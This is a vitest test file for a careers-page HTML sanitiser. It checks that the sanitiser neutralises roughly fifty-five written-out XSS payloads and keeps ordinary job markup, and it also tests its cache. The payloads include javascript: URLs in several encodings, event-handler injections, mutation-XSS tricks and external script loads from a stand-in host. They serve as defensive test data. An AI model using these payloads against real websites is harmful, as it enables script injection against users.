// The job-text sanitiser: what hostile HTML turns into, what harmless markup keeps, and the cache.
import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { sanitizeJobHtml, sanitizerCacheStats } from "../../lib/careers/sanitize";

const ALLOWED_OUTPUT_TAGS = new Set(["H3", "H4", "H5", "H6", "P", "BR", "UL", "OL", "LI", "STRONG", "B", "EM", "I", "A"]);
const SAFE_HREF = /^(?:https?:|mailto:|tel:|\/(?![/\\])|#)/i;

/** Every way the output could still carry active content, as a list of findings (empty = safe). */
function findUnsafe(html: string): string[] {
  const document = new JSDOM(`<!DOCTYPE html><body>${html}</body>`).window.document;
  const findings: string[] = [];
  for (const element of Array.from(document.querySelectorAll("*"))) {
    // html, head and body come from the parse itself; only attributes moved onto them count.
    const skeleton = ["HTML", "HEAD", "BODY"].includes(element.tagName);
    if (!skeleton && !ALLOWED_OUTPUT_TAGS.has(element.tagName)) findings.push(`tag <${element.tagName.toLowerCase()}>`);
    for (const attribute of Array.from(element.attributes)) {
      const allowed = element.tagName === "A" && (attribute.name === "href" || attribute.name === "rel");
      if (!allowed) findings.push(`attribute ${attribute.name} on <${element.tagName.toLowerCase()}>`);
    }
    if (element.tagName === "A") {
      const href = element.getAttribute("href") ?? "";
      if (!SAFE_HREF.test(href)) findings.push(`href ${JSON.stringify(href)}`);
      if (element.getAttribute("rel") !== "noopener noreferrer") findings.push(`rel ${element.getAttribute("rel")}`);
    }
  }
  return findings;
}

// Filter-evasion techniques catalogued by OWASP's XSS cheat sheet and known DOMPurify mutation-XSS
// reports, written out here as test inputs: each one tries to get script to run.
const hostilePayloads: [technique: string, html: string, activeContent?: false][] = [
  ["plain script element", `<script>alert(1)</script>`],
  ["external script, upper case, protocol-relative", `<SCRIPT SRC=//xss.example/x.js></SCRIPT>`],
  ["script with a non-alphanumeric attribute separator", `<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`],
  ["extraneous open brackets", `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`],
  ["script split by a nested tag", `<scr<script>ipt>alert(1)</scr</script>ipt>`],
  ["image with javascript: source", `<IMG SRC="javascript:alert('XSS');">`],
  ["image, no quotes, mixed case scheme", `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ["malformed image tag hiding a script", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`],
  ["image onerror handler", `<img src=x onerror=alert(1)>`],
  ["image dynsrc", `<IMG DYNSRC="javascript:alert('XSS')">`],
  ["svg onload", `<svg/onload=alert(1)>`],
  ["body onload with junk before =", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>"],
  ["event handler on a harmless tag", `<p onmouseover="alert(1)">hover me</p>`],
  ["event handler on an allowed link", `<a href="https://fixwell.example" onclick="alert(1)">site</a>`],
  ["autofocus onfocus on input", `<input onfocus=alert(1) autofocus>`],
  ["details ontoggle", `<details open ontoggle=alert(1)><summary>x</summary></details>`],
  ["unknown element with a handler", `<xss onafterscriptexecute=alert(1)><script>1</script></xss>`],
  ["javascript: link", `<a href="javascript:alert(1)">click</a>`],
  ["javascript: link with leading spaces", `<a href="   javascript:alert(1)">click</a>`],
  ["javascript: split by a literal tab", `<a href="jav\tascript:alert(1)">click</a>`],
  ["javascript: split by an encoded tab", `<a href="jav&#x09;ascript:alert(1)">click</a>`],
  ["javascript: split by an encoded newline", `<a href="jav&#x0A;ascript:alert(1)">click</a>`],
  ["javascript: split by a null byte", `<a href="java\0script:alert(1)">click</a>`],
  ["javascript: as decimal entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`],
  ["javascript: as zero-padded decimal entities", `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">click</a>`],
  ["javascript: as hex entities", `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>`],
  ["javascript: with a named-entity colon", `<a href="javascript&colon;alert(1)">click</a>`],
  ["javascript: behind a control character", `<a href=" &#14;  javascript:alert(1)">click</a>`],
  ["vbscript: link", `<a href="vbscript:msgbox(1)">click</a>`],
  ["data: URL with an HTML document", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`],
  ["link that opens a new window", `<a href="https://fixwell.example" target="_blank">site</a>`],
  ["iframe with javascript: source", `<iframe src="javascript:alert(1)"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  ["frameset", `<frameset><frame src="javascript:alert(1)"></frameset>`],
  ["style element with @import", `<style>@import 'http://xss.example/x.css';</style><p>text</p>`],
  ["style attribute with a javascript: url", `<p style="background:url(javascript:alert(1))">text</p>`],
  ["style attribute with expression()", `<div style="width: expression(alert(1));">text</div>`],
  ["object with javascript: data", `<object data="javascript:alert(1)"></object>`],
  ["embed with an svg payload", `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
  ["meta refresh to javascript:", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`],
  ["stylesheet link", `<link rel=stylesheet href="javascript:alert(1)">`],
  ["table background", `<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`],
  ["base href", `<base href="javascript:alert(1)//"><a href="/x">x</a>`],
  ["form action with a button", `<form action="javascript:alert(1)"><button>send</button></form>`],
  ["button formaction", `<button formaction="javascript:alert(1)">go</button>`],
  ["template holding a script", `<template><script>alert(1)</script></template>`],
  ["textarea holding a script", `<textarea><script>alert(1)</script></textarea>`],
  ["comment hiding an image", `<!--<img src="--><img src=x onerror=alert(1)//">`],
  ["noscript title breakout (mutation XSS)", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
  [
    "math/mglyph/style namespace confusion (mutation XSS)",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
  ],
  ["nested forms with math (mutation XSS)", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`],
  ["svg style attribute breakout (mutation XSS)", `<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">`],
  ["nested broken tags", `<p>unclosed <b><i>nested</b></i><ul><li>one<li>two</ul></p></div></span>`, false],
  ["data attributes and aria", `<p data-x="javascript:alert(1)" aria-label="x">text</p>`],
  ["id and name clobbering", `<a id="location" name="cookie" href="https://fixwell.example">x</a>`],
];

describe("sanitizeJobHtml against hostile HTML", () => {
  it("uses a checker that does flag every raw payload (so a no-op sanitiser would fail)", () => {
    const unflagged = hostilePayloads
      .filter(([, , activeContent]) => activeContent !== false)
      .filter(([, html]) => findUnsafe(html).length === 0 && !/<script|<iframe|<style|javascript:/i.test(html))
      .map(([technique]) => technique);
    expect(unflagged).toEqual([]);
  });

  it.each(hostilePayloads)("neutralises %s", (_technique, html) => {
    const clean = sanitizeJobHtml(html);
    expect(findUnsafe(clean)).toEqual([]);
    expect(clean).not.toMatch(/<script|<iframe|<style|<object|<embed|<svg|<math|\son\w+\s*=|javascript:/i);
  });

  it.each(hostilePayloads)("gives stable output for %s (sanitising it again changes nothing)", (_technique, html) => {
    const clean = sanitizeJobHtml(html);
    expect(sanitizeJobHtml(clean)).toBe(clean);
    // The browser parses the output into the same markup: no mutation on a second parse.
    expect(new JSDOM(`<!DOCTYPE html><body>${clean}</body>`).window.document.body.innerHTML).toBe(clean);
  });

  it("runs none of the payloads when the output is loaded into a scripting DOM", () => {
    const html = hostilePayloads.map(([, payload]) => sanitizeJobHtml(payload)).join("\n");
    const dom = new JSDOM(`<!DOCTYPE html><body>${html}</body>`, {
      runScripts: "dangerously",
      beforeParse(window) {
        (window as unknown as { alert: (value: unknown) => void }).alert = () => {
          throw new Error("a payload ran");
        };
      },
    });
    let ran = false;
    dom.window.alert = () => {
      ran = true;
    };
    for (const element of Array.from(dom.window.document.querySelectorAll("*"))) {
      element.dispatchEvent(new dom.window.Event("mouseover"));
      element.dispatchEvent(new dom.window.Event("focus"));
      element.dispatchEvent(new dom.window.Event("click"));
    }
    expect(ran).toBe(false);
    expect(dom.window.document.querySelectorAll("script")).toHaveLength(0);
  });
});

describe("sanitizeJobHtml keeps job text", () => {
  it("keeps paragraphs, lists and emphasis as they were", () => {
    const html = `<p>We would like to see:</p><ul><li><strong>TypeScript</strong> and <em>React</em></li><li>Tests</li></ul><ol><li>one</li></ol>`;
    expect(sanitizeJobHtml(html)).toBe(html);
  });

  it("keeps sub-headings and turns h1/h2 into h3 so they sit below the page's own headings", () => {
    expect(sanitizeJobHtml(`<h1>Big</h1><h2>Mid</h2><h3>Sub</h3><h4>Small</h4>`)).toBe(
      `<h3>Big</h3><h3>Mid</h3><h3>Sub</h3><h4>Small</h4>`,
    );
  });

  it('gives links rel="noopener noreferrer" and nothing but href', () => {
    expect(sanitizeJobHtml(`<a href="https://fixwell.example/jobs" target="_blank" title="t">jobs</a>`)).toBe(
      `<a href="https://fixwell.example/jobs" rel="noopener noreferrer">jobs</a>`,
    );
    expect(sanitizeJobHtml(`<a href="mailto:jobs@fixwell.example" rel="opener">mail</a>`)).toBe(
      `<a href="mailto:jobs@fixwell.example" rel="noopener noreferrer">mail</a>`,
    );
    expect(sanitizeJobHtml(`<a href="/job-openings">all</a>`)).toBe(`<a href="/job-openings" rel="noopener noreferrer">all</a>`);
  });

  it("keeps the words of a link whose address was removed, without the link", () => {
    expect(sanitizeJobHtml(`<p><a href="javascript:alert(1)">apply here</a></p>`)).toBe(`<p>apply here</p>`);
    expect(sanitizeJobHtml(`<p><a href="//xss.example/">elsewhere</a></p>`)).toBe(`<p>elsewhere</p>`);
  });

  it("keeps the text of removed wrappers and escapes plain text", () => {
    expect(sanitizeJobHtml(`<div><span>Calm &amp; clear</span></div>`)).toBe(`Calm &amp; clear`);
    expect(sanitizeJobHtml(`5 < 6 & "quotes"`)).toBe(`5 &lt; 6 &amp; "quotes"`);
  });

  it("drops the content of script, style and iframe, not just the tags", () => {
    expect(sanitizeJobHtml(`<p>a</p><script>steal()</script><style>p{}</style><iframe>frame</iframe>`)).toBe(`<p>a</p>`);
  });

  it("returns an empty string for empty input", () => {
    expect(sanitizeJobHtml("")).toBe("");
    expect(sanitizeJobHtml(null)).toBe("");
    expect(sanitizeJobHtml(undefined)).toBe("");
  });
});

describe("sanitizeJobHtml cache", () => {
  it("answers a repeated fragment from the cache with the same result", () => {
    const html = `<p>cached <img src=x onerror=alert(1)></p>`;
    const first = sanitizeJobHtml(html);
    const sizeAfterFirst = sanitizerCacheStats().size;
    expect(sanitizeJobHtml(html)).toBe(first);
    expect(sanitizerCacheStats().size).toBe(sizeAfterFirst);
  });

  it("sanitises changed text afresh instead of serving the old result", () => {
    expect(sanitizeJobHtml(`<p>version one</p>`)).toBe(`<p>version one</p>`);
    expect(sanitizeJobHtml(`<p>version two<script>x()</script></p>`)).toBe(`<p>version two</p>`);
  });

  // 600 sanitisations through jsdom: seconds on an idle core, more while other test files share it.
  it("stays bounded and keeps working across window renewals after many distinct fragments", { timeout: 120_000 }, () => {
    const { max, perWindow } = sanitizerCacheStats();
    expect(600).toBeGreaterThan(Math.max(max, perWindow));
    for (let i = 0; i < 600; i += 1) {
      expect(sanitizeJobHtml(`<p>item ${i}<img src=x onerror=alert(${i})></p>`)).toBe(`<p>item ${i}</p>`);
    }
    const after = sanitizerCacheStats();
    expect(after.size).toBeLessThanOrEqual(max);
    expect(after.sinceWindowRenewed).toBeLessThanOrEqual(perWindow);
    expect(sanitizeJobHtml(`<ul><li>after <a href="https://fixwell.example">renewal</a></li></ul>`)).toBe(
      `<ul><li>after <a href="https://fixwell.example" rel="noopener noreferrer">renewal</a></li></ul>`,
    );
  });
});
